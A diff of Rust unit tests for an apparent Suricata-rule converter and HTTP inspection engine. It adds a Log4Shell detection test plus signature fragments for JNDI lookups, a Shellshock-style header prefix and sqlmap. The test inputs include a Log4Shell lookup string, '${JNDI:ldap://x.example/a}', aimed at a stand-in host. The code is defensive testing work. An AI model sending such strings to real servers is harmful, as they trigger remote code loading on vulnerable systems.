@@ -250,6 +250,31 @@ fn uri_pcre_that_cannot_cross_the_query_separator() {
 }
 
 #[test]
+fn header_content_with_a_colon_inside_a_value() {
+    let imp = import(
+        r#"alert http any any -> any any (msg:"LOCAL Log4Shell JNDI LDAP lookup in a header"; http.header; content:"${jndi:ldap"; nocase; reference:cve,2021-44228; classtype:attempted-admin; sid:9000019; rev:1;)"#,
+    );
+    assert_eq!(converted_id(&imp, 0), "SURI-9000019");
+    let e = engine(&imp);
+    assert_eq!(
+        fire(
+            &e,
+            Target::Header,
+            "x-api-version",
+            b"${JNDI:ldap://x.example/a}"
+        ),
+        ["SURI-9000019"]
+    );
+    assert!(fire(
+        &e,
+        Target::Header,
+        "x-api-version",
+        b"${jndi:rmi://x.example/a}"
+    )
+    .is_empty());
+}
+
+#[test]
 fn header_pcre_that_stays_within_a_value() {
     let imp = import(
         r#"alert http any any -> any any (msg:"LOCAL sqlmap in any header"; http.header; pcre:"/\bsqlmap\/\d/i"; classtype:attempted-recon; sid:9000018; rev:1;)"#,
@@ -356,8 +381,17 @@ fn unconvertible_rules_say_why() {
         ),
         (
             r#"http.header; content:"Content-Type|3a 20|%{"; sid:1;"#,
-            "spans a header name",
+            "`Name: ` separator",
         ),
+        (
+            r#"http.header; content:"${jndi:"; sid:1;"#,
+            "`Name: ` separator",
+        ),
+        (
+            r#"http.header; content:" () {"; sid:1;"#,
+            "`Name: ` separator",
+        ),
+        (r#"http.header; content:"a|0d 0a|b"; sid:1;"#, "line break"),
         (
             r#"http.user_agent; content:"Foo"; content:"Bar"; sid:1;"#,
             "neither is a case-insensitive content",
